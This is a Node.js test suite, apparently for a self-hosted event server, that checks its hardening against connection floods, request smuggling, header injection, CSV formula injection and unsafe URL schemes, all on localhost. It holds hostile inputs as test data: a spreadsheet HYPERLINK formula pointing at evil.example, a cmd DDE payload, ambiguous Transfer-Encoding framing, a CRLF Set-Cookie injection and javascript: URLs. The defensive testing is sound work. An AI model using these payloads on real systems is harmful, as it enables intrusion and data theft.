// Issue 13 (hardening), the server's side: connection floods, bodies before
// sign-in, strict framing, header injection, security headers, and iCalendar
// rules that used to hang an import. Everything on 127.0.0.1.
import assert from 'node:assert/strict';
import net from 'node:net';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, readdirSync, writeFileSync } from 'node:fs';
import { after, before, describe, test } from 'node:test';

import { ConsoleClient } from './console_client.mjs';
import { cli, request, startServer, tempDir } from './lib.mjs';

/** Opens `n` TCP connections that send nothing; resolves when all are connected. */
async function idleConnections(url, n) {
  const { port } = new URL(url);
  const sockets = [];
  const state = { closed: 0 };
  for (let i = 0; i < n; ++i) {
    await new Promise((resolve) => {
      const s = net.connect({ host: '127.0.0.1', port: Number(port) }, resolve);
      s.on('error', () => {});
      s.on('close', () => { state.closed += 1; });
      s.on('error', resolve);
      sockets.push(s);
    });
  }
  return { sockets, state, destroy: () => sockets.forEach((s) => s.destroy()) };
}

/** Sends `raw` bytes on a new connection; resolves {text, closed} once the server closes it or 5 s pass. */
function rawExchange(url, raw) {
  const { port } = new URL(url);
  return new Promise((resolve) => {
    const s = net.connect({ host: '127.0.0.1', port: Number(port) }, () => s.write(raw));
    let text = '';
    const timer = setTimeout(() => { s.destroy(); resolve({ text, closed: false }); }, 5000);
    s.on('data', (d) => { text += d.toString('latin1'); });
    s.on('error', () => {});
    s.on('close', () => { clearTimeout(timer); resolve({ text, closed: true }); });
  });
}

const status = (text) => Number((text.match(/^HTTP\/1\.1 (\d{3})/) || [])[1]);

/**
 * One client as wrk runs it: POSTs a registration on a kept-alive connection,
 * reads the answer, sends the next; when the server closes the connection, it
 * opens another. Pushes each answer's status to `statuses` until `stop()`.
 */
async function registrationClient(url, key, id, statuses, stop) {
  const { port } = new URL(url);
  let n = 0;
  while (!stop()) {
    await new Promise((resolve) => {
      const s = net.connect({ host: '127.0.0.1', port: Number(port) });
      let buf = Buffer.alloc(0);
      const send = () => {
        if (stop()) return s.destroy();
        const body = JSON.stringify({ name: `Client ${id}-${n}`, email: `c${id}-${n}@example.org` });
        n += 1;
        s.write(`POST /api/v1/events/${key}/registrations HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n` +
                `Content-Length: ${Buffer.byteLength(body)}\r\n\r\n${body}`);
      };
      s.on('connect', send);
      s.on('data', (d) => {
        buf = Buffer.concat([buf, d]);
        for (;;) {
          const end = buf.indexOf('\r\n\r\n');
          if (end < 0) return;
          const head = buf.subarray(0, end).toString('latin1');
          const length = Number((head.match(/\r\ncontent-length: *(\d+)/i) || [])[1] || 0);
          if (buf.length < end + 4 + length) return;
          statuses.push(Number(head.split(' ')[1]));
          buf = buf.subarray(end + 4 + length);
          send();
        }
      });
      s.on('error', () => {});
      s.on('close', resolve);
    });
  }
}

describe('connection floods', () => {
  let tmp;
  before(() => { tmp = tempDir(); });
  after(() => tmp.remove());

  test('more idle connections than file descriptors: the server keeps answering and logs little', async () => {
    const server = await startServer(`sqlite:///${tmp.dir}/flood.db`, [], undefined, { fdLimit: 256 });
    try {
      const flood = await idleConnections(server.url, 400);
      const started = Date.now();
      const probe = await request(`${server.url}/readyz`);
      assert.equal(probe.status, 200);
      assert.ok(Date.now() - started < 5000, 'the probe is answered at once');
      assert.ok(flood.state.closed >= 400 - 256, `the oldest idle connections were closed (${flood.state.closed})`);
      flood.destroy();
      assert.ok(server.stderr().length < 20_000, `the log stays small (${server.stderr().length} bytes)`);
      assert.doesNotMatch(server.stderr(), /Too many open files/);
    } finally {
      assert.equal(await server.stop(), 0);
    }
  });

  test('--max-connections-per-client closes that client\'s oldest idle connections first', async () => {
    const server = await startServer(`sqlite:///${tmp.dir}/per-client.db`, ['--max-connections-per-client', '10']);
    try {
      const flood = await idleConnections(server.url, 30);
      const probe = await request(`${server.url}/readyz`);
      assert.equal(probe.status, 200);
      await new Promise((r) => setTimeout(r, 50));
      // The first 20 (and then one more for the probe) were closed; the newest stay open.
      assert.ok(flood.state.closed >= 20, `closed ${flood.state.closed}`);
      assert.equal(flood.sockets[0].destroyed || flood.sockets[0].readyState !== 'open', true);
      assert.equal(flood.sockets[29].readyState, 'open');
      flood.destroy();
    } finally {
      await server.stop();
    }
  });

  test('a connection closed for a newer one never takes an answer with it: every confirmation reaches its client', async () => {
    // 16 clients, at most 4 connections each address: the server keeps closing
    // the oldest idle connection for a new one, also just as a request arrives
    // on it. A request it closed the connection on must not run; one it ran
    // must be answered (each confirmation is a place the client must know of).
    const db = `sqlite:///${tmp.dir}/sellout.db`;
    writeFileSync(`${tmp.dir}/sellout.csv`, 'key,title,starts_at,ends_at,time_zone,capacity,registration,waitlist\n' +
      'sellout,Sell-out,2031-06-11 19:00,2031-06-11 21:00,Europe/Berlin,300,true,false\n');
    assert.equal(cli(['import', `${tmp.dir}/sellout.csv`, '--db', db, '--publish']).status, 0);
    const server = await startServer(db, ['--no-seed', '--registration-rate', '0', '--max-connections-per-client', '4']);
    try {
      const statuses = [];
      let timedOut = false;
      const timer = setTimeout(() => { timedOut = true; }, 30_000);
      const stop = () => timedOut || statuses.filter((s) => s === 409).length >= 200;
      await Promise.all(Array.from({ length: 16 }, (_, i) => registrationClient(server.url, 'sellout', i, statuses, stop)));
      clearTimeout(timer);
      assert.ok(!timedOut, `sold out within 30 s (answers: ${statuses.length})`);
      const other = statuses.filter((s) => s !== 201 && s !== 409);
      assert.deepEqual(other, [], 'only 201 and 409');
      const exported = cli(['attendees', 'export', '--event', 'sellout', '--db', db]);
      assert.equal(exported.status, 0, exported.stderr);
      const confirmed = exported.stdout.split('\n').filter((line) => line.startsWith('"sellout",') && line.includes(',"confirmed",')).length;
      assert.equal(confirmed, 300, 'sold out, not overbooked');
      assert.equal(statuses.filter((s) => s === 201).length, confirmed, 'every confirmation was answered');
    } finally {
      await server.stop();
    }
  });
});

describe('bodies, framing and headers', () => {
  let tmp, server, db;
  const EDITOR = ['editor@example.org', 'editor password 1234'];
  const DOOR = ['door@example.org', 'door password 12345'];
  before(async () => {
    tmp = tempDir();
    db = `sqlite:///${tmp.dir}/hardening.db`;
    assert.equal(cli(['migrate', '--db', db]).status, 0);
    assert.equal(cli(['user', 'add', EDITOR[0], '--role', 'editor', '--db', db], { input: `${EDITOR[1]}\n` }).status, 0);
    assert.equal(cli(['user', 'add', DOOR[0], '--role', 'door', '--db', db], { input: `${DOOR[1]}\n` }).status, 0);
    mkdirSync(`${tmp.dir}/uploads`);
    server = await startServer(db, ['--max-body-bytes-in-flight', String(40 << 20), '--upload-dir', `${tmp.dir}/uploads`]);
  });
  after(async () => { await server.stop(); tmp.remove(); });

  test('an anonymous upload gets the default limit, decided before the body is read', async () => {
    // Content-Length over 1 MiB: 413 at once, although the body never comes.
    const big = await rawExchange(server.url,
      'POST /admin/import HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=b\r\nContent-Length: 5242880\r\n\r\n');
    assert.equal(status(big.text), 413, big.text);
    assert.ok(big.closed);
    // A chunked body is cut at 1 MiB.
    const chunk = Buffer.alloc(256 * 1024, 'a');
    let raw = 'POST /admin/import HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n';
    for (let i = 0; i < 6; ++i) raw += `${chunk.length.toString(16)}\r\n${chunk.toString('latin1')}\r\n`;
    const chunked = await rawExchange(server.url, raw + '0\r\n\r\n');
    assert.equal(status(chunked.text), 413, chunked.text.slice(0, 200));
  });

  test('bodies that are announced but never sent hold no memory: others still get through', async () => {
    // 60 connections announce 1 MiB each (60 MiB > the 40 MiB cap of this
    // server) and then send nothing; bytes are counted as they arrive.
    const { port } = new URL(server.url);
    const stalled = [];
    for (let i = 0; i < 60; ++i) {
      await new Promise((resolve) => {
        const s = net.connect({ host: '127.0.0.1', port: Number(port) }, () => {
          s.write('POST /api/v1/events/hl27-005/registrations HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1048576\r\n\r\n{');
          resolve();
        });
        s.on('error', () => {});
        stalled.push(s);
      });
    }
    try {
      const ok = await request(`${server.url}/api/v1/events/hl27-005/registrations`, { method: 'POST',
        body: JSON.stringify({ name: 'Still Welcome', email: 'still@example.org' }), headers: { 'content-type': 'application/json' } });
      assert.ok([201, 202].includes(ok.status), `${ok.status} ${ok.body}`);
    } finally {
      stalled.forEach((s) => s.destroy());
    }
  });

  test('a signed-in editor uploads a 2 MiB file sent with Content-Length', async () => {
    const editor = await new ConsoleClient(server.url).signIn(...EDITOR);
    const header = 'key,title,starts_at,ends_at,time_zone,venue,description\n';
    let rows = '';
    for (let i = 0; rows.length < 2.2 * (1 << 20); ++i)
      rows += `big-${i},Talk ${i},2031-06-11 10:00,2031-06-11 11:00,Europe/Berlin,Hall,${'x'.repeat(400)}\n`;
    const res = await editor.upload('/admin/import', { time_zone: 'Europe/Berlin' }, { name: 'big.csv', content: header + rows });
    assert.notEqual(res.status, 413, res.body.toString().slice(0, 300));
    assert.equal(res.status, 200);
    assert.match(res.body.toString(), /big-0|Talk 0|rows?/);
    // The upload went to a temporary file as it arrived, and the file is gone.
    assert.deepEqual(readdirSync(`${tmp.dir}/uploads`), []);
  });

  test('requests whose framing is ambiguous are refused and the connection closed (RFC 9112)', async () => {
    const cases = [
      ['Transfer-Encoding: gzip\r\n', 400],
      ['Transfer-Encoding: chunked, identity\r\n', 400],
      ['Transfer-Encoding: xchunked\r\nContent-Length: 5\r\n', 400],
      ['Transfer-Encoding: gzip, chunked\r\n', 501],
    ];
    for (const [head, want] of cases) {
      const r = await rawExchange(server.url, `POST /api/v1/events HTTP/1.1\r\nHost: x\r\n${head}\r\nGET /readyz HTTP/1.1\r\nHost: x\r\n\r\n`);
      assert.equal(status(r.text), want, `${head.trim()}: ${r.text.slice(0, 120)}`);
      assert.equal((r.text.match(/HTTP\/1\.1 /g) || []).length, 1, 'the smuggled request is never answered');
      assert.ok(r.closed);
    }
    const noHost = await rawExchange(server.url, 'GET /readyz HTTP/1.1\r\n\r\n');
    assert.equal(status(noHost.text), 400);
    const twoHosts = await rawExchange(server.url, 'GET /readyz HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n');
    assert.equal(status(twoHosts.text), 400);
    const http10 = await rawExchange(server.url, 'GET /readyz HTTP/1.0\r\n\r\n');
    assert.equal(status(http10.text.replace('HTTP/1.0', 'HTTP/1.1')), 200);
  });

  test('the response head on the wire: status line, Content-Length, Connection by HTTP version, HEAD and 304', async () => {
    // Splits what the server sent into responses; `methods` says which have no body (HEAD, 304).
    const parse = (text, methods) => {
      const out = [];
      let rest = Buffer.from(text, 'latin1');
      for (const method of methods) {
        const end = rest.indexOf('\r\n\r\n');
        assert.ok(end > 0, `a response head for ${method}: ${rest.toString('latin1').slice(0, 200)}`);
        const [line, ...fields] = rest.subarray(0, end).toString('latin1').split('\r\n');
        const headers = {};
        for (const f of fields) {
          const colon = f.indexOf(':');
          assert.ok(colon > 0, `a field line: ${f}`);
          headers[f.slice(0, colon).toLowerCase()] = f.slice(colon + 1).trim();
        }
        const code = Number(line.split(' ')[1]);
        const length = method === 'HEAD' || code === 304 ? 0 : Number(headers['content-length']);
        out.push({ line, headers, body: rest.subarray(end + 4, end + 4 + length).toString() });
        rest = rest.subarray(end + 4 + length);
      }
      assert.equal(rest.length, 0, 'nothing after the last response');
      return out;
    };

    // HTTP/1.1: three pipelined requests on one connection; the last asks to close it.
    const r11 = await rawExchange(server.url,
      'GET /events/hl27-005 HTTP/1.1\r\nHost: x\r\n\r\n' +
      'HEAD /events/hl27-005 HTTP/1.1\r\nHost: x\r\n\r\n' +
      'GET /no/such/page HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n');
    assert.ok(r11.closed);
    const [page, head, missing] = parse(r11.text, ['GET', 'HEAD', 'GET']);
    assert.equal(page.line, 'HTTP/1.1 200 OK');
    assert.equal(page.headers.server, 'marquee');
    assert.match(page.headers['x-request-id'], /^[0-9a-f]{8}-\d+$/);
    assert.equal(page.headers['content-type'], 'text/html; charset=utf-8');
    assert.equal(Number(page.headers['content-length']), Buffer.byteLength(page.body));
    assert.match(page.body, /^<!doctype html>/);
    assert.equal(page.headers.connection, undefined, 'HTTP/1.1 keeps the connection without saying so');
    assert.equal(head.line, 'HTTP/1.1 200 OK');
    assert.equal(head.headers['content-length'], page.headers['content-length'], 'HEAD: the length of the GET body, no body');
    assert.equal(head.headers.etag, page.headers.etag);
    assert.equal(missing.line, 'HTTP/1.1 404 Not Found');
    assert.equal(missing.headers['content-type'], 'application/problem+json');
    assert.equal(missing.headers.connection, 'close');
    assert.equal(JSON.parse(missing.body).status, 404);

    // 304: no Content-Length and no body; the connection stays open for the next request.
    const r304 = await rawExchange(server.url,
      `GET /events/hl27-005 HTTP/1.1\r\nHost: x\r\nIf-None-Match: ${page.headers.etag}\r\n\r\n` +
      'GET /readyz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n');
    const [unchanged, ready] = parse(r304.text, ['GET', 'GET']);
    assert.equal(unchanged.line, 'HTTP/1.1 304 Not Modified');
    assert.equal(unchanged.headers['content-length'], undefined);
    assert.equal(unchanged.headers.etag, page.headers.etag);
    assert.equal(ready.line, 'HTTP/1.1 200 OK');

    // HTTP/1.0: kept open only when asked, and then said so.
    const r10 = await rawExchange(server.url,
      'GET /readyz HTTP/1.0\r\nConnection: keep-alive\r\n\r\nGET /readyz HTTP/1.0\r\n\r\n');
    assert.ok(r10.closed);
    const [kept, last] = parse(r10.text, ['GET', 'GET']);
    assert.equal(kept.line, 'HTTP/1.0 200 OK');
    assert.equal(kept.headers.connection, 'keep-alive');
    assert.equal(last.line, 'HTTP/1.0 200 OK');
    assert.equal(last.headers.connection, undefined);

    // A large cached body (the event list) is written from memory the first time and sent from
    // its file (sendfile) after: the same bytes, the head before them, a HEAD in between.
    const list = (await request(`${server.url}/api/v1/events`)).body.toString();
    assert.ok(Buffer.byteLength(list) > 65536, 'the event list is large enough to be kept as a file');
    const get = 'GET /api/v1/events HTTP/1.1\r\nHost: x\r\n\r\n';
    const rl = await rawExchange(server.url, get + get + 'HEAD /api/v1/events HTTP/1.1\r\nHost: x\r\n\r\n' +
      'GET /api/v1/events HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n');
    assert.ok(rl.closed);
    const lists = parse(rl.text, ['GET', 'GET', 'HEAD', 'GET']);
    for (const [i, r] of lists.entries()) {
      assert.equal(r.line, 'HTTP/1.1 200 OK', `response ${i}`);
      assert.equal(r.headers['content-length'], String(Buffer.byteLength(list)), `response ${i}`);
      assert.equal(r.body, i === 2 ? '' : list, `response ${i}`);
    }
  });

  test('large bodies reach a client that stops reading for a while, whole and in order', async () => {
    // 40 pipelined requests for the event list (about 7 MB) on one connection whose reader pauses
    // at its first bytes: the server fills the socket, waits for room, and goes on where it was.
    const list = (await request(`${server.url}/api/v1/events`)).body;
    const n = 40;
    const raw = 'GET /api/v1/events HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(n - 1) +
      'GET /api/v1/events HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n';
    const { port } = new URL(server.url);
    const received = await new Promise((resolve, reject) => {
      const chunks = [];
      const s = net.connect({ host: '127.0.0.1', port: Number(port) }, () => s.write(raw));
      const timer = setTimeout(() => { s.destroy(); reject(new Error('not all sent within 20 s')); }, 20_000);
      s.once('data', () => { s.pause(); setTimeout(() => s.resume(), 300); });
      s.on('data', (d) => chunks.push(d));
      s.on('error', reject);
      s.on('close', () => { clearTimeout(timer); resolve(Buffer.concat(chunks)); });
    });
    let rest = received;
    for (let i = 0; i < n; ++i) {
      const end = rest.indexOf('\r\n\r\n');
      assert.ok(end > 0, `response ${i} has a head`);
      const head = rest.subarray(0, end).toString('latin1');
      assert.match(head, /^HTTP\/1\.1 200 OK\r\n/, `response ${i}`);
      const length = Number(head.match(/\r\nContent-Length: (\d+)/i)[1]);
      assert.equal(length, list.length, `response ${i}`);
      assert.ok(rest.subarray(end + 4, end + 4 + length).equals(list), `response ${i}: the same bytes`);
      rest = rest.subarray(end + 4 + length);
    }
    assert.equal(rest.length, 0, 'nothing after the last response');
  });

  test('a client gone in the middle of large bodies costs only its own connection', async () => {
    const list = (await request(`${server.url}/api/v1/events`)).body;
    await request(`${server.url}/api/v1/events`);  // sent twice: the list is now sent from its file
    const { port } = new URL(server.url);
    for (const leave of ['resetAndDestroy', 'destroy', 'resetAndDestroy', 'destroy']) {
      await new Promise((resolve) => {
        const s = net.connect({ host: '127.0.0.1', port: Number(port) },
          () => s.write('GET /api/v1/events HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(20)));
        s.once('data', () => s[leave]());
        s.on('error', () => {});
        s.on('close', resolve);
      });
    }
    const again = await request(`${server.url}/api/v1/events`);
    assert.equal(again.status, 200, 'the server still answers');
    assert.ok(again.body.equals(list));
  });

  test('a check-in\'s return target cannot inject a header', async () => {
    const reg = await request(`${server.url}/api/v1/events/hl27-005/registrations`, { method: 'POST',
      body: JSON.stringify({ name: 'Ina Inject', email: 'ina@example.org' }), headers: { 'content-type': 'application/json' } });
    assert.ok([201, 202].includes(reg.status), reg.body.toString());
    const code = JSON.parse(reg.body).registration.ticket_code;
    const door = await new ConsoleClient(server.url).signIn(...DOOR);
    const res = await door.post('/admin/check-in', { code, from: 'hl27-005\r\nSet-Cookie: injected=1' });
    assert.ok([200, 303].includes(res.status), String(res.status));
    assert.ok(![].concat(res.headers['set-cookie'] || []).some((c) => c.startsWith('injected')), 'no injected cookie');
    assert.ok(!String(res.headers.location || '').includes('injected'));
  });

  test('security headers on public pages, the API and the console', async () => {
    for (const path of ['/', '/events/hl27-005', '/admin/login']) {
      const r = await request(`${server.url}${path}`);
      assert.equal(r.status, 200, path);
      assert.equal(r.headers['x-content-type-options'], 'nosniff', path);
      assert.match(r.headers['content-security-policy'] || '', /frame-ancestors 'none'/, path);
      assert.match(r.headers['content-security-policy'] || '', /script-src 'self'/, path);
      assert.equal(r.headers['x-frame-options'], 'DENY', path);
      assert.ok(r.headers['referrer-policy'], path);
      assert.match(r.headers['permissions-policy'] || '', /microphone=\(\)/, path);
      assert.equal(r.headers['strict-transport-security'], undefined, 'no HSTS without an https public URL');
    }
    const api = await request(`${server.url}/api/v1/events`);
    assert.equal(api.headers['x-content-type-options'], 'nosniff');
  });
});

describe('iCalendar rules that used to hang an import', () => {
  let tmp;
  before(() => { tmp = tempDir(); });
  after(() => tmp.remove());
  const calendar = (lines) => ['BEGIN:VCALENDAR', 'VERSION:2.0', 'PRODID:-//test//EN', 'BEGIN:VEVENT', ...lines,
    'END:VEVENT', 'END:VCALENDAR', ''].join('\r\n');

  for (const [name, lines] of [
    ['SECONDLY from 2020', ['UID:a@b', 'DTSTART:20200101T100000Z', 'DTEND:20200101T100001Z', 'SUMMARY:Loop', 'RRULE:FREQ=SECONDLY']],
    ['SECONDLY on 30 February', ['UID:a@b', 'DTSTART:20270101T100000Z', 'DTEND:20270101T110000Z', 'SUMMARY:Loop',
      'RRULE:FREQ=SECONDLY;BYMONTH=2;BYMONTHDAY=30']],
    ['DAILY on 30 February', ['UID:c@d', 'DTSTART:20270101T100000Z', 'DTEND:20270101T110000Z', 'SUMMARY:Never',
      'RRULE:FREQ=DAILY;BYMONTH=2;BYMONTHDAY=30']],
  ]) {
    test(`${name}: refused with its line, at once`, () => {
      const file = `${tmp.dir}/${name.replace(/\W+/g, '-')}.ics`;
      writeFileSync(file, calendar(lines));
      const started = Date.now();
      const r = cli(['import', file, '--db', `sqlite:///${tmp.dir}/ics.db`, '--report', 'json'], { timeout: 30_000 });
      assert.ok(Date.now() - started < 15_000, 'the import ends');
      const report = JSON.parse(r.stdout);
      const text = JSON.stringify(report);
      assert.match(text, /RRULE/);
      assert.match(text, /hourly|never occur/);
      assert.match(text, /"line":4/);
    });
  }
});

describe('exports are safe to open, and links are http(s) only', () => {
  let tmp, db, server;
  const staff = 'hardening-staff-token-0123456789';
  const FORMULA = `=HYPERLINK("http://evil.example/"&A1,"click")`;
  before(async () => {
    tmp = tempDir();
    db = `sqlite:///${tmp.dir}/exports.db`;
    const csv = 'key,title,description,starts_at,ends_at,time_zone,organizer,url\n' +
      `f1,"${FORMULA.replaceAll('"', '""')}",-5 °C outside,2031-06-11 19:00,21:00,Europe/Berlin,@team,https://example.org/\n` +
      `f2,'Tis the season,"'=already escaped",2031-06-12 19:00,21:00,Europe/Berlin,+49 40 1234,mailto:info@example.org\n`;
    writeFileSync(`${tmp.dir}/f.csv`, csv);
    const imp = cli(['import', `${tmp.dir}/f.csv`, '--db', db, '--publish']);
    assert.equal(imp.status, 0, imp.stdout + imp.stderr);
    process.env.MARQUEE_STAFF_TOKENS = staff;
    server = await startServer(db);
  });
  after(async () => { await server.stop(); tmp.remove(); });

  test('the events CSV escapes formulas and round-trips exactly', async () => {
    const out = cli(['export', '--format', 'csv', '--db', db]).stdout;
    assert.ok(out.includes(`"'=HYPERLINK(`), 'formula escaped');
    assert.ok(out.includes(`"'-5 °C outside"`));
    assert.ok(out.includes(`"'@team"`) && out.includes(`"'+49 40 1234"`));
    assert.ok(out.includes(`"'Tis the season"`), 'a plain apostrophe is left alone');
    // Marquee's own layout reads "'=…" as the escaped form of "=…".
    assert.ok(out.includes(`"'=already escaped"`));
    writeFileSync(`${tmp.dir}/export.csv`, out);
    const db2 = `sqlite:///${tmp.dir}/again.db`;
    assert.equal(cli(['import', `${tmp.dir}/export.csv`, '--db', db2]).status, 0);
    assert.equal(cli(['export', '--format', 'csv', '--db', db2]).stdout, out, 'export → import → export is identical');
    const e = (await request(`${server.url}/api/v1/events/f1`)).body.toString();
    assert.equal(JSON.parse(e).event.title, FORMULA);
    const f2 = JSON.parse((await request(`${server.url}/api/v1/events/f2`)).body.toString()).event;
    assert.equal(f2.description, '=already escaped');
    assert.equal(f2.title, "'Tis the season");
  });

  test('an anonymous sign-in failure cannot plant a formula in the audit CSV', async () => {
    const form = await request(`${server.url}/admin/login`);
    const csrf = [].concat(form.headers['set-cookie']).find((c) => c.startsWith('marquee_login_csrf=')).split(';')[0].split('=')[1];
    await request(`${server.url}/admin/login`, { method: 'POST',
      body: new URLSearchParams({ email: '=cmd|\' /C calc\'!A0', password: 'wrong password here', csrf_token: csrf }).toString(),
      headers: { 'content-type': 'application/x-www-form-urlencoded', cookie: `marquee_login_csrf=${csrf}` } });
    const audit = await request(`${server.url}/api/v1/admin/audit.csv`, { headers: { authorization: `Bearer ${staff}` } });
    assert.equal(audit.status, 200);
    const text = audit.body.toString();
    assert.ok(text.includes('cmd|'), 'the failed sign-in is in the log');
    for (const cell of text.split(/","|^"|"\r\n"?/m)) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `cell ${cell}`);
  });

  test('javascript:, data: and other schemes are refused with line and field', () => {
    const csv = 'key,title,starts_at,ends_at,time_zone,url,image_url\n' +
      'a,One,2031-06-11 19:00,21:00,Europe/Berlin,javascript:alert(1),\n' +
      'b,Two,2031-06-11 19:00,21:00,Europe/Berlin," JaVa\tScRiPt:alert(1)",\n' +
      'c,Three,2031-06-11 19:00,21:00,Europe/Berlin,https://example.org/,"data:image/svg+xml;base64,PHN2Zz4="\n' +
      'd,Four,2031-06-11 19:00,21:00,Europe/Berlin,mailto:x@example.org,https://example.org/i.png\n';
    writeFileSync(`${tmp.dir}/urls.csv`, csv);
    const r = cli(['check', `${tmp.dir}/urls.csv`, '--report', 'json']);
    const report = JSON.parse(r.stdout);
    const errors = report.issues.filter((i) => i.severity === 'error').map((i) => `${i.line}:${i.field}`);
    assert.deepEqual(errors.sort(), ['2:url', '3:url', '4:image_url']);
    assert.equal(report.accepted, 1);
  });
});

describe('faults reported as they are', () => {
  test('a backup whose audit entry cannot be stored is reported written, the audit failure apart', () => {
    const tmp = tempDir();
    try {
      const db = `${tmp.dir}/full.db`;
      assert.equal(cli(['migrate', '--db', `sqlite:///${db}`]).status, 0);
      // The audit insert fails as it does on a full store disk.
      const py = spawnSync('python3', ['-c', `import sqlite3; c = sqlite3.connect(${JSON.stringify(db)}); ` +
        `c.execute("CREATE TRIGGER full BEFORE INSERT ON audit_log BEGIN SELECT RAISE(ABORT, 'database or disk is full'); END"); c.commit()`],
      { encoding: 'utf8' });
      assert.equal(py.status, 0, py.stderr);
      const r = cli(['backup', '--backup-dir', `${tmp.dir}/backups`, '--db', `sqlite:///${db}`]);
      assert.equal(r.status, 0, r.stderr);
      const file = r.stdout.trim().split(' ')[0];
      assert.ok(existsSync(file), r.stdout);
      assert.match(r.stderr, /backup was written, but its audit entry could not be stored: .*disk is full/);
      const restored = cli(['restore', file, '--db', `sqlite:///${tmp.dir}/restored.db`]);
      assert.equal(restored.status, 0, restored.stderr);
    } finally {
      tmp.remove();
    }
  });
});

describe('rate limits shared by instances and restarts, client addresses behind a proxy', () => {
  test('the registration limit survives a restart and follows X-Forwarded-For only from a trusted proxy', async () => {
    const tmp = tempDir();
    const db = `sqlite:///${tmp.dir}/limits.db`;
    const register = (url, who, forwarded) => request(`${url}/api/v1/events/hl27-005/registrations`, { method: 'POST',
      body: JSON.stringify({ name: who, email: `${who}@example.org` }),
      headers: { 'content-type': 'application/json', ...(forwarded ? { 'x-forwarded-for': forwarded } : {}) } });
    try {
      let server = await startServer(db, ['--registration-rate', '2']);
      assert.equal((await register(server.url, 'r1')).status, 201);
      assert.equal((await register(server.url, 'r2', '203.0.113.9')).status, 201, 'X-Forwarded-For is ignored without --trusted-proxy');
      assert.equal((await register(server.url, 'r3')).status, 429);
      await server.stop();
      server = await startServer(db, ['--registration-rate', '2']);
      const again = await register(server.url, 'r4');
      assert.equal(again.status, 429, 'a restart does not reset the limit');
      assert.ok(Number(again.headers['retry-after']) > 0);
      await server.stop();
      // Behind a trusted proxy, each client has its own limit; a forged entry
      // left of the proxy's own does not help.
      server = await startServer(db, ['--registration-rate', '2', '--trusted-proxy', '127.0.0.1']);
      assert.equal((await register(server.url, 'p1', '203.0.113.7')).status, 201);
      assert.equal((await register(server.url, 'p2', '203.0.113.7')).status, 201);
      assert.equal((await register(server.url, 'p3', '203.0.113.7')).status, 429);
      assert.equal((await register(server.url, 'p4', '10.9.9.9, 203.0.113.7')).status, 429, 'spoofed hop ignored');
      assert.equal((await register(server.url, 'p5', '203.0.113.8')).status, 201, 'another client behind the proxy');
      await server.stop();
      const bad = spawnSync(process.env.MARQUEE_BIN, ['serve', '--db', db, '--port', '0', '--trusted-proxy', 'nginx.local'], { encoding: 'utf8', timeout: 10_000 });
      assert.notEqual(bad.status, 0);
      assert.match(bad.stderr + bad.stdout, /trusted-proxy 'nginx\.local' is not an IP address/);
    } finally {
      tmp.remove();
    }
  });
});

describe('backups hold every secret', () => {
  test('encrypted at rest with --backup-key-file, a warning while they are not, downloads for owners only', async () => {
    const tmp = tempDir();
    const db = `sqlite:///${tmp.dir}/b.db`;
    const backups = `${tmp.dir}/backups`;
    const OWNER = ['owner@example.org', 'owner password 1234'];
    const OPS = ['ops@example.org', 'ops password 123456'];
    try {
      assert.equal(cli(['migrate', '--db', db]).status, 0);
      assert.equal(cli(['user', 'add', OWNER[0], '--role', 'owner', '--db', db], { input: `${OWNER[1]}\n` }).status, 0);
      assert.equal(cli(['user', 'add', OPS[0], '--role', 'operations', '--db', db], { input: `${OPS[1]}\n` }).status, 0);
      let server = await startServer(db, ['--backup-dir', backups]);
      let owner = await new ConsoleClient(server.url).signIn(...OWNER);
      assert.match((await owner.get('/admin/publishing')).body.toString(), /not encrypted/);
      await server.stop();

      writeFileSync(`${tmp.dir}/backup.key`, 'a-long-random-secret-for-the-backups-0123456789\n');
      server = await startServer(db, ['--backup-dir', backups, '--backup-key-file', `${tmp.dir}/backup.key`]);
      try {
        owner = await new ConsoleClient(server.url).signIn(...OWNER);
        assert.equal((await owner.post('/admin/backups', {})).status, 303);
        const page = (await owner.get('/admin/publishing')).body.toString();
        assert.doesNotMatch(page, /not encrypted/);
        const name = page.match(/href="\/admin\/backups\/(marquee-backup-[^"]+\.jsonl\.gz\.enc)"/)[1];
        const download = await owner.get(`/admin/backups/${name}`);
        assert.equal(download.status, 200);
        assert.equal(download.body.subarray(0, 8).toString('latin1'), 'MQBENC1\n');
        const ops = await new ConsoleClient(server.url).signIn(...OPS);
        assert.doesNotMatch((await ops.get('/admin/publishing')).body.toString(), /href="\/admin\/backups\/marquee-backup-[^"/]+"/);
        assert.equal((await ops.get(`/admin/backups/${name}`)).status, 403, 'operations may not download backups');
        const file = `${backups}/${name}`;
        const plain = cli(['restore', file, '--db', `sqlite:///${tmp.dir}/r1.db`]);
        assert.equal(plain.status, 2);
        assert.match(plain.stderr, /encrypted; give its key/);
        const wrong = `${tmp.dir}/wrong.key`;
        writeFileSync(wrong, 'another-long-random-secret-that-is-wrong-000\n');
        assert.match(cli(['restore', file, '--db', `sqlite:///${tmp.dir}/r2.db`, '--backup-key-file', wrong]).stderr, /wrong key/);
        const ok = cli(['restore', file, '--db', `sqlite:///${tmp.dir}/r3.db`, '--backup-key-file', `${tmp.dir}/backup.key`]);
        assert.equal(ok.status, 0, ok.stderr);
      } finally {
        await server.stop();
      }
    } finally {
      tmp.remove();
    }
  });
});

describe('stopping', () => {
  test('SIGTERM ends the process within --drain-seconds even while a client holds a request open', async () => {
    const tmp = tempDir();
    try {
      const server = await startServer(`sqlite:///${tmp.dir}/drain.db`, ['--drain-seconds', '1']);
      const { port } = new URL(server.url);
      // A request whose body never finishes: without a bound, shutdown would wait for its idle timeout (30 s).
      const s = net.connect({ host: '127.0.0.1', port: Number(port) }, () =>
        s.write('POST /api/v1/events/hl27-005/registrations HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{"na'));
      s.on('error', () => {});
      await new Promise((r) => s.once('connect', r));
